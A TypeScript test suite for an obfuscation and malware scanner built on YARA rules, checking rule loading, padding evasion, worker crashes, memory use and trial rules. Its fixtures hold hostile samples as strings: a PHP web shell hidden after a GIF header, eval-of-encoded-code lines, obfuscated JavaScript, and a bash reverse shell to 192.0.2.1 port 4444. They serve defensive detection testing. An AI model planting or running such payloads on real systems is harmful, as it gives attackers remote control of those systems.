import { spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { cp, mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { messages } from '@guardimesh/contracts'
import { UnixSocketClient } from '@guardimesh/kit'
import { ObfuscationEngine } from '@guardimesh/scanner/engines/obfuscation/obfuscation-engine.js'
import { TrialEngine } from '@guardimesh/scanner/engines/obfuscation/trial-engine.js'
import { residentBytes } from '@guardimesh/signature-format'
import { temporaryFolder } from '@guardimesh/testbed/temporary-folder.js'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { never, openFile } from '../engines/fixtures.js'
import { type BuiltProcess, probe, runConfined } from './run-built.js'

const STARTER_RULES = fileURLToPath(new URL('../../signatures/yara', import.meta.url))
let folder: string
let scanner: BuiltProcess
let engine: ObfuscationEngine
const probeSocket = () => join(folder, 'run', 'obfuscation-scanner.probe.sock')

/** Activates a generation with the starter rules and additional ones. */
async function putGeneration(name: string, rules: Record<string, string>): Promise<void> {
  const generation = join(folder, 'signatures', 'generations', name)
  await cp(STARTER_RULES, join(generation, 'yara'), { recursive: true })
  for (const [file, source] of Object.entries(rules)) await writeFile(join(generation, 'yara', file), source)
  const files = Object.keys(rules).map((file) => ({ path: `yara/${file}`, sizeBytes: 1, sha256: '0'.repeat(64) }))
  await writeFile(join(generation, 'manifest.json'), JSON.stringify({ generation: name, builtAt: new Date().toISOString(), files }))
  await symlink(generation, join(folder, 'signatures', 'next'))
  await rename(join(folder, 'signatures', 'next'), join(folder, 'signatures', 'current'))
}

async function verdictOf(name: string, content: string | Uint8Array) {
  const path = join(folder, 'files', name)
  await writeFile(path, content)
  using file = openFile(path)
  return await engine.scan(file, never)
}

beforeAll(async () => {
  folder = await temporaryFolder('obfuscation')
  for (const name of ['run', 'files', 'signatures']) await mkdir(join(folder, name))
  const env = { RUN_FOLDER: join(folder, 'run'), SIGNATURES_FOLDER: join(folder, 'signatures') }
  scanner = runConfined('obfuscation-scanner', { folder, env })
  engine = new ObfuscationEngine({ socketPath: join(folder, 'run', 'obfuscation.sock'), timeoutMs: 30_000 })
  const isListening = () =>
    probe(probeSocket(), '/livez').then(
      () => true,
      () => false,
    )
  while (!(await isListening())) await wait(20)
})
afterAll(async () => {
  engine[Symbol.dispose]()
  await scanner[Symbol.asyncDispose]()
  await rm(folder, { recursive: true, force: true })
})

test('reports no file as clean until rules are loaded', async () => {
  expect((await probe(probeSocket(), '/readyz')).status).toBe(503)
  expect(await verdictOf('early.php', '<?php echo 1;')).toMatchObject({ kind: 'not-scanned', reason: 'engine_error' })
})

test('loads new rules, and skips and reports a broken file', async () => {
  await putGeneration('g1', {
    'broken.yar': 'rule Broken { condition: $missing }',
    'named.yar': 'rule Named { condition: filename == "give-away.sh" }',
  })
  await expect
    .poll(
      () =>
        engine.ping(1000).then(
          () => true,
          () => false,
        ),
      { timeout: 20_000 },
    )
    .toBe(true)
  expect((await probe(probeSocket(), '/readyz')).status).toBe(200)
  expect((await probe(probeSocket(), '/metrics')).body).toContain('guardimesh_obfuscation_rule_files{state="broken"} 1')
  expect(scanner.output()).toContain('"ruleFile":"broken.yar"')
  expect(await verdictOf('give-away.sh', '#!/bin/sh\n')).toMatchObject({ kind: 'infected', matches: [{ signatureName: 'Named' }] })
})

const blob = randomBytes(300).toString('base64')
test.each([
  { name: 'a.php', content: `<?php eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code', severity: 'high' },
  { name: 'b.gif', content: `GIF89a<?php system($_${'GET'}['c']);`, rule: 'PHP_Runs_What_A_Request_Says', severity: 'critical' },
  { name: 'c', content: `#!/bin/sh\necho ${blob} | base64 -d | sh\n`, rule: 'Shell_Runs_Encoded_Code', severity: 'high' },
  { name: 'd.py', content: `import base64\nexec(base64.b64decode('${blob}'))\n`, rule: 'Python_Runs_Encoded_Code', severity: 'high' },
  { name: 'e.js', content: `eval("${'\\x61\\x3d'.repeat(300)}")`, rule: 'Script_Of_Hex_Escapes', severity: 'medium' },
  { name: 'f.js', content: `${'var _0x1a2b3c=1;'.repeat(60)}eval(_0x1a2b3c)`, rule: 'JavaScript_Obfuscator', severity: 'medium' },
  {
    name: 'g',
    content: `#!/bin/sh\nbash -i >& /dev/${'tcp'}/192.0.2.1/4444 0>&1\n`,
    rule: 'Shell_Reverse_Connection',
    severity: 'critical',
  },
])('$rule detects $name', async ({ name, content, rule, severity }) => {
  const match = {
    signatureName: rule,
    engine: 'yara',
    severity,
    engineVersion: 'YARA-X 1.20.0, g1',
    description: expect.stringMatching(/^[A-Z].+\.$/),
  }
  expect(await verdictOf(name, content)).toMatchObject({ kind: 'infected', matches: [match] })
})

test.each([{ mib: 1 }, { mib: 17 }])('detects code behind $mib MiB of comments', async ({ mib }) => {
  const padding = Buffer.alloc(mib * 1024 * 1024, '#'.repeat(127).concat('\n'))
  const script = Buffer.concat([Buffer.from('#!/bin/sh\n'), padding, Buffer.from(`echo ${blob} | base64 -d | sh\n`)])
  expect(await verdictOf('large', script)).toMatchObject({ kind: 'infected', matches: [{ signatureName: 'Shell_Runs_Encoded_Code' }] })
  expect(await verdictOf('large', script.subarray(0, -40 - blob.length))).toEqual({ kind: 'clean' })
})

const comments = '# comment\n// comment\n'.repeat(160_000)
test.each([
  { name: 'blanks.php', content: `${' '.repeat(600)}<?php eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code' },
  { name: 'pad.php', content: `<?php\n${comments}eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code' },
  { name: 'pad-request.php', content: `<?php\n${comments}system($_${'GET'}['c']);`, rule: 'PHP_Runs_What_A_Request_Says' },
  { name: 'pad.sh', content: `#!/bin/sh\n${comments}echo ${blob} | base64 -d | sh\n`, rule: 'Shell_Runs_Encoded_Code' },
  { name: 'pad.py', content: `import base64\n${comments}exec(base64.b64decode('${blob}'))\n`, rule: 'Python_Runs_Encoded_Code' },
  { name: 'pad.js', content: `${comments}eval("${'\\x61\\x3d'.repeat(300)}")`, rule: 'Script_Of_Hex_Escapes' },
  { name: 'pad-2.js', content: `const a = "${'\\x61\\x3d'.repeat(300)}"\neval(a)\n${comments}`, rule: 'Script_Of_Hex_Escapes' },
  { name: 'pad-3.js', content: `${'var _0x1a2b3c=1;'.repeat(60)}${comments}eval(_0x1a2b3c)`, rule: 'JavaScript_Obfuscator' },
  { name: 'pad-4', content: `#!/bin/sh\n${comments}bash -i >& /dev/${'tcp'}/192.0.2.1/4444 0>&1\n`, rule: 'Shell_Reverse_Connection' },
])('$rule detects $name behind padding', async ({ name, content, rule }) => {
  expect(await verdictOf(name, content)).toMatchObject({ kind: 'infected', matches: [{ signatureName: rule }] })
})

test('reports that a file above the limit of windows was scanned in part', async () => {
  const path = join(folder, 'files', 'sparse.sh')
  await writeFile(path, '#!/bin/sh\n')
  await truncate(path, 300 * 1024 * 1024)
  using file = openFile(path)
  expect(await engine.scan(file, never)).toMatchObject({
    ...{
      kind: 'not-scanned',
      reason: 'partially_scanned',
      detail: expect.stringMatching(/^the obfuscation rules read the first 2\d\d of 300 MiB$/),
    },
  })
  await rm(path)
})

test('switches to a new generation during scans', async () => {
  const scans = Array.from({ length: 40 }, (_, n) => verdictOf(`during-${n}.php`, `<?php eval(base64_decode('${n}'));`))
  await putGeneration('g2', { 'new.yar': 'rule New { strings: $a = "only in g2" condition: $a }' })
  for (const verdict of await Promise.all(scans)) expect(verdict.kind).toBe('infected')
  await scanner.wrote('"generation":"g2"')
  expect(await verdictOf('g2.sh', '#!/bin/sh\n# only in g2\n')).toMatchObject({ matches: [{ signatureName: 'New' }] })
})

const workersOf = async () => (await readFile(`/proc/${scanner.pid}/task/${scanner.pid}/children`, 'utf8')).trim().split(' ').map(Number)
const metrics = async () => (await probe(probeSocket(), '/metrics')).body

test('judges all files while worker processes are killed', async () => {
  const scans = Array.from({ length: 60 }, (_, n) => verdictOf(`killed-${n}.sh`, `#!/bin/sh\n# only in g2, ${n}\n`))
  // One of an earlier generation may end in between.
  for (const pid of await workersOf()) spawnSync('kill', ['-KILL', String(pid)])
  for (const verdict of await Promise.all(scans)) expect(verdict.kind).toBe('infected')
  // The end of a process is noticed later than the answers of the others, if it was idle.
  await vi.waitFor(async () => expect(await metrics()).toMatch(/guardimesh_obfuscation_workers_replaced_total\{cause="crash"\} [12]\n/))
  expect(scanner.output()).toContain('"cause":"crash"')
})

test('reports when a scan last succeeded, also while nothing is scanned', { timeout: 60_000 }, async () => {
  const lastSuccess = async () => Number(/^guardimesh_obfuscation_last_success_timestamp_seconds (\S+)$/m.exec(await metrics())?.[1])
  const before = await lastSuccess()
  expect(Date.now() / 1000 - before).toBeLessThan(60)
  while ((await lastSuccess()) === before) await wait(200)
})

test('stays within its memory over 100,000 distinct scripts', { timeout: 120_000 }, async () => {
  const client = new UnixSocketClient({
    ...{ socketPath: join(folder, 'run', 'obfuscation.sock'), timeoutMs: 60_000 },
    ...{ request: messages.ObfuscationRequest, answer: messages.ObfuscationResponse },
  })
  const fileName = Buffer.from('a.sh')
  const scan = async (number: number) => {
    const content = Buffer.from(`#!/bin/sh\necho ${number}\n`)
    expect((await client.ask({ content, sizeBytes: content.length, fileName })).matches ?? []).toEqual([])
  }
  const scanRange = async (from: number, to: number) => {
    for (let number = from; number < to; number += 8) await Promise.all(Array.from({ length: 8 }, (_, offset) => scan(number + offset)))
  }
  const residentBytesOfAll = async () => [scanner.pid, ...(await workersOf())].reduce((sum, pid) => sum + residentBytes(pid).nowBytes, 0)
  const replaced = async () => (await metrics()).match(/workers_replaced_total\{.*/g)
  const replacedBefore = await replaced()
  await scanRange(0, 10_000)
  const bytesBefore = await residentBytesOfAll()
  await scanRange(10_000, 100_000)
  expect((await residentBytesOfAll()) / bytesBefore).toBeLessThan(1.1)
  expect(await replaced()).toEqual(replacedBefore)
  client[Symbol.dispose]()
})

describe('rules of a trial', () => {
  const TRIAL_A = 'rule Tried { meta: severity = "high" strings: $a = "only in the trial" condition: $a and filename == "tried.sh" }'
  const ENDLESS = 'rule Endless { condition: for all i in (0..100000000000) : (i >= 0) }'
  let trial: TrialEngine
  beforeAll(() => {
    trial = new TrialEngine({ socketPath: join(folder, 'run', 'obfuscation.sock'), timeoutMs: 60_000 })
  })
  afterAll(() => trial[Symbol.dispose]())
  const match = (trialId: string, name: string, content: string | Buffer) =>
    trial.match(trialId, { content: Buffer.from(content), name: Buffer.from(name) }, content.length)
  const script = (text: string) => `#!/bin/sh\n# ${text}\n`

  test('are applied separately from the active rules', async () => {
    await trial.set('a', TRIAL_A)
    expect(await match('a', 'tried.sh', script('only in the trial'))).toEqual(['Tried'])
    expect(await match('a', 'other.sh', script('only in the trial'))).toEqual([])
    expect(await match('a', 'g2.sh', script('only in g2'))).toEqual([])
    expect(await verdictOf('tried.sh', script('only in the trial'))).toEqual({ kind: 'clean' })
    expect(await verdictOf('g2.sh', script('only in g2'))).toMatchObject({ matches: [{ signatureName: 'New' }] })
    expect(await match('a', 'tried.sh', Buffer.alloc(16 * 1024 * 1024, 'only in the trial '))).toEqual(['Tried'])
  })

  test('are replaced by the rules of another trial, and must be set again after its end', async () => {
    await trial.set('b', 'rule Other { condition: true }')
    expect(await match('b', 'x.sh', script('x'))).toEqual(['Other'])
    await expect(match('a', 'x.sh', script('x'))).rejects.toMatchObject({ code: 'ENGINE_UNAVAILABLE' })
    await trial.end('a')
    expect(await match('b', 'x.sh', script('x'))).toEqual(['Other'])
    await trial.end('b')
    await expect(match('b', 'x.sh', script('x'))).rejects.toMatchObject({ code: 'ENGINE_UNAVAILABLE' })
  })

  test.each([
    { name: 'invalid rules', rules: 'rule Bad { condition: $b }', code: 'SIGNATURES_INVALID' },
    { name: 'rules above the size limit', rules: ' '.repeat(1024 * 1024 + 1), code: 'FRAME_TOO_LARGE' },
  ])('rejects $name', async ({ rules, code }) => {
    await expect(trial.set('c', rules)).rejects.toMatchObject({ code })
    await expect(match('c', 'x.sh', script('x'))).rejects.toMatchObject({ code: 'ENGINE_UNAVAILABLE' })
  })

  test('time out without delaying the active rules', async () => {
    await trial.set('d', ENDLESS)
    const endless = match('d', 'x.sh', script('x'))
    const outcome = endless.catch((error: unknown) => error)
    for (let n = 0; n < 10; n++) expect(await verdictOf(`meanwhile-${n}.sh`, script('only in g2'))).toMatchObject({ kind: 'infected' })
    expect(await Promise.race([outcome, wait(1)])).toBeUndefined()
    expect(await outcome).toMatchObject({ code: 'ENGINE_TIMEOUT', message: expect.stringContaining('more than 10 s for one file') })
    // The rules are not used again after a timeout.
    await expect(match('d', 'x.sh', script('x'))).rejects.toMatchObject({ code: 'ENGINE_ERROR' })
    await trial.set('e', TRIAL_A)
    expect(await match('e', 'tried.sh', script('only in the trial'))).toEqual(['Tried'])
  }, 60_000)

  test('fail when their process is killed, without affecting the active rules', async () => {
    await trial.set('f', ENDLESS)
    const outcome = match('f', 'x.sh', script('x')).catch((error: unknown) => error)
    await wait(200)
    const children = await readFile(`/proc/${scanner.pid}/task/${scanner.pid}/children`, 'utf8')
    process.kill(Number(children.trim().split(' ').at(-1)), 'SIGKILL')
    expect(await outcome).toMatchObject({ code: 'ENGINE_ERROR' })
    expect(await verdictOf('after.sh', script('only in g2'))).toMatchObject({ kind: 'infected' })
  })
})

test('exits with 0 on SIGTERM', async () => {
  scanner.signal('SIGTERM')
  expect(await scanner.exit()).toBe(0)
})
